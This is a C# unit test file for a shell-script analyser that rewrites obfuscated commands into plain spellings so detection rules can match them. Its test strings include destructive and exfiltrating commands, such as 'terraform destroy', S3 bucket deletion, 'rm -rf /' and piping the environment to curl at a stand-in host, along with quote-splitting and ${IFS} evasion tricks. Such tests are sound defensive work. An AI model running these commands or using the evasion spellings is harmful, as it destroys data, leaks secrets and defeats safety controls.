using System.Text;

namespace SigmaShake.Rules.Tests.Analysis;

/// <summary>Scripts as most people would write them, for rules that look at text.</summary>
public sealed class PlainSpellingTests
{
    [Theory]
    [InlineData("t''erraform destroy", "terraform destroy")]
    [InlineData("terraform \\\n  destroy", "terraform destroy")]
    [InlineData("X=destroy; terraform $X", "X=destroy; terraform destroy")]
    [InlineData("terraform ${IFS}destroy", "terraform destroy")]
    [InlineData("a=(aws s3 rb s3://b); \"${a[@]}\"", "a=(aws s3 rb s3://b); aws s3 rb s3://b")]
    [InlineData("env | c''url -d @- x.y", "env | curl -d @- x.y")]
    [InlineData("sudo te'rra'form destroy", "terraform destroy")]
    [InlineData("env A=b te'rra'form destroy", "A=b terraform destroy")]
    [InlineData("case x in x) rm y;; esac", "case x in \nrm y;; esac")]
    [InlineData("$(echo rm) ~/x 'a b'", "rm ~/x 'a b'")]
    [InlineData("$(echo rm) \"it's\"", "rm \"it's\"")]
    [InlineData("$(echo rm) \"$X\" *.o", "rm \"$X\" *.o")]
    [InlineData("'rm' x > y", "rm x > y")]
    [InlineData("printf '%s' ssg | xargs pkill -9", "pkill -9 ssg")]
    public void A_roundabout_spelling_is_told_plainly_too(string script, string expected) => Assert.Contains(expected, Analysed.Scripts(script));

    [Theory]
    [InlineData("git commit -m 'fix: a b'")]
    [InlineData("cat \"src/a b\" ~/x")]
    [InlineData("rm -rf \"$DIR\" *.o")]
    [InlineData("ls -la && make")]
    public void A_plain_one_is_told_once(string script) => Assert.Single(Analysed.Scripts(script));

    [Fact]
    public void Its_commands_stand_in_the_plain_script_as_well()
    {
        var scripts = Analysed.Of("env | c''url -d @- x.y").Commands.Where(command => command.ProgramName.Span.SequenceEqual("curl"u8)).Select(command => Encoding.UTF8.GetString(command.Script.Span));
        Assert.Equal(["env | c''url -d @- x.y", "env | curl -d @- x.y"], scripts);
    }

    [Fact]
    public void Data_keeps_its_quotes() => Assert.Contains("echo 'rm -rf /; x'", Analysed.Scripts("e''cho 'rm -rf /; x'"));
}
